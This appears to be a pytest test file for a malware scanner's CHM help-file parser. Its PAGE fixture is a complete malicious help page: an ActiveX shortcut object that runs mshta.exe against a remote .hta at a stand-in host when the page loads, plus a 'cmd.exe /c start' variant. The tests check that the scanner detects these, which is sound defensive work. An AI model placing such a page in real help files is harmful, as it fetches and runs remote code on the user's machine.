from __future__ import annotations

import pytest
from fixturelib.chm import help_file

from emoscan import Limits, scan_bytes
from emoscan.budget import Budget
from emoscan.context import Context
from emoscan.formats.chm import open_help, read_help_control
from emoscan.model import Artifact, Child, Fact, Problem

PAGE = b"""<html><object id=x classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=1 height=1>
<PARAM name="Command" value="ShortCut"><PARAM name="Button" value="Bitmap:shortcut">
<PARAM name="Item1" value=',mshta.exe,http://files.example.test/a.hta'><PARAM name="Item2" value="273,1,1">
</object><script>x.Click();</script></html>"""


def read(data: bytes) -> list[Child | Fact | Problem]:
    return list(open_help(Artifact("windows.chm", data), Context(Budget(Limits()))))


def test_pages_and_programs_are_handed_on_and_pictures_are_not():
    found = read(help_file({"/start.htm": PAGE, "/logo.gif": b"GIF89a", "/#SYSTEM": b"x"}, plain={"/a.js": b"var a;"}))
    assert [(item.label, item.data) for item in found if isinstance(item, Child)] == [("a.js", b"var a;"), ("start.htm", PAGE)]


def test_damage_is_a_problem():
    assert [item.sort for item in read(help_file({"/a.htm": PAGE})[:300]) if isinstance(item, Problem)] == ["malformed"]


@pytest.mark.parametrize(
    ("item", "command"),
    [
        (",mshta.exe,http://files.example.test/a.hta", "mshta.exe http://files.example.test/a.hta"),
        (", cmd.exe , /c start a,b", "cmd.exe /c start a,b"),
    ],
)
def test_the_control_starts_a_program(item: str, command: str):
    page = PAGE.replace(b",mshta.exe,http://files.example.test/a.hta", item.encode())
    found = list(read_help_control(Artifact("text.html", page), Context(Budget(Limits()))))
    assert [each.value for each in found if isinstance(each, Fact)] == [command]


def test_the_whole_way_ends_in_the_address():
    report = scan_bytes(help_file({"/start.htm": PAGE}), "help.chm")
    assert "http://files.example.test/a.hta" in [each.value for each in report.iocs if each.type == "url"]
    assert report.verdict in ("suspicious", "malicious")
